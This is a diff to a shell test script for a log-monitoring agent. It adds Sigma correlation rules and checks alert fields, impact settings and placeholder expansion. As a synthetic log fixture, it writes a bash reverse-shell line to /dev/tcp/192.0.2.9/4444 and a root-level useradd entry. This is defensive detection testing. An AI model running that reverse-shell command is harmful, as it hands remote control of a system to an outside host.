@@ -89,18 +89,40 @@ expect_err "format"
 
 # the running agent on the Linux pack: a hit whose tactic shows impact (a
 # privileged account made: persistence) is a draft, one without (a reverse
-# shell typed: execution) an alert with no clock
-mkdir -p "$T/lnx/state"
+# shell typed: execution) an alert with no clock. Two correlations run in
+# the agent too: both rules within 10 minutes (temporal), and fewer than 2
+# /dev/tcp lines in a minute (decided when a later line closes the window)
+mkdir -p "$T/lnx/state" "$T/lnx/corr"
 cat >"$T/lnx/agent.yaml" <<YAML
 agent: { id: lnx, agency: x, authority: 1, state_dir: $T/lnx/state }
 contacts: [ { name: a, phone: "1" }, { name: b, phone: "2" } ]
 inputs: [ { type: file, id: auth, paths: [ "$T/lnx/auth.log" ] } ]
-rules: { sigma: [ "$PACK/linux/builtin" ] }
+rules: { sigma: [ "$PACK/linux/builtin", "$T/lnx/corr" ] }
 kafka: { brokers: "127.0.0.1:9" }
+YAML
+cat >"$T/lnx/corr/both.yml" <<YAML
+title: Account made, then a shell sent out
+id: corr-both
+correlation:
+  type: temporal
+  rules: [ 6cc5fceb-9a71-4c23-aeeb-963abe0b279c, 0ac15ec3-d24f-4246-aa2a-3077bb1cf90e ]
+  timespan: 10m
+  generate: true
+YAML
+cat >"$T/lnx/corr/once.yml" <<YAML
+title: One /dev/tcp line alone
+id: corr-once
+correlation:
+  type: event_count
+  rules: [ 6cc5fceb-9a71-4c23-aeeb-963abe0b279c ]
+  timespan: 1m
+  condition: { lt: 2 }
+  generate: true
 YAML
 {
   echo 'Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash'
   echo 'Dec 21 17:20:01 testserver bash[1400]: bash -i >& /dev/tcp/192.0.2.9/4444 0>&1'
+  echo 'Dec 21 17:30:00 testserver cron[1500]: (root) CMD (true)'
 } >"$T/lnx/auth.log"
 run "$AGENT" -c "$T/lnx/agent.yaml" --oneshot
 expect_status 0
@@ -116,6 +138,52 @@ import json, sys
 a = {x["rule"]: x for x in json.loads(sys.argv[1])}
 assert "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e" in a, a
 others = [x for r, x in a.items() if r != "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"]
-assert others and all(x["impact"] == "none" for x in others), others' "$OUT"
+assert others and all(x["impact"] == "none" for x in others), others
+# DRL 1.1: the author goes with every alert of a Sigma rule
+assert a["0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"]["author"] == "Pawel Mazur", a
+assert a["corr-both"]["count"] == 2 and a["corr-once"]["count"] == 1, a' "$OUT"
+run "$CTL" -c "$T/lnx/agent.yaml" alerts
+expect_out "       by Pawel Mazur"
+# the alert as shipped carries the author and the references
+CHECKS=$((CHECKS + 1))
+sqlite3 "$T/lnx/state/agent.db" "SELECT payload FROM outbox WHERE topic = 'alerts'" >"$T/lnx/shipped" 2>&1 ||
+  fail "outbox: $(cat "$T/lnx/shipped")"
+grep -qF '"author":"Pawel Mazur","reference":["https:\/\/digital.nhs.uk\/cyber-alerts\/2018\/cc-2825"' "$T/lnx/shipped" ||
+  fail "shipped alert without author and references: $(head -c 600 "$T/lnx/shipped")"
+# the operator's impact table: the rule's own line makes it an alert
+rm -rf "$T/lnx/state" && mkdir -p "$T/lnx/state"
+sed -i 's|^rules: { sigma: \(.*\) }$|rules: { sigma: \1,\n  sigma_impact: { 0ac15ec3-d24f-4246-aa2a-3077bb1cf90e: alert } }|' "$T/lnx/agent.yaml"
+run "$AGENT" -c "$T/lnx/agent.yaml" --oneshot
+expect_status 0
+run "$CTL" -c "$T/lnx/agent.yaml" drafts --json
+check_py "rules.sigma_impact: no draft" '
+import json, sys
+assert json.loads(sys.argv[1]) == [], sys.argv[1]' "$OUT"
+
+# expand: placeholders from the configuration (socctl rules test --with-config,
+# as the agent takes them); without a value the rule is refused, saying why
+cat >"$T/expand.yml" <<'YAML'
+title: An administrator's process
+id: t-expand
+logsource: { product: windows, category: process_creation }
+detection:
+  s: { User|expand: '%admins%' }
+  condition: s
+YAML
+echo '{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"User":"CORP\\bob"}}}' >"$T/expand.jsonl"
+run "$CTL" rules test --sigma "$T/expand.yml" --format json "$T/expand.jsonl"
+expect_err "refused (value): expand: placeholder %admins% has no values in rules.sigma_placeholders"
+cat >"$T/expand.yaml" <<YAML
+agent: { id: x, agency: x, authority: 1, state_dir: $T/xs }
+contacts: [ { name: a, phone: "1" }, { name: b, phone: "2" } ]
+rules: { sigma: [ "$T/expand.yml" ], sigma_placeholders: { admins: [ 'CORP\root', 'CORP\bob' ] } }
+kafka: { brokers: "127.0.0.1:9" }
+YAML
+run "$CTL" -c "$T/expand.yaml" rules test --with-config --sigma "$T/expand.yml" --format json "$T/expand.jsonl"
+expect_status 0
+expect_out "t-expand key=- count=1"
+run "$AGENT" -c "$T/expand.yaml" --check-config
+expect_status 0
+expect_err "rules.sigma: 1 Sigma rule(s) loaded, 0 refused"
 
 finish
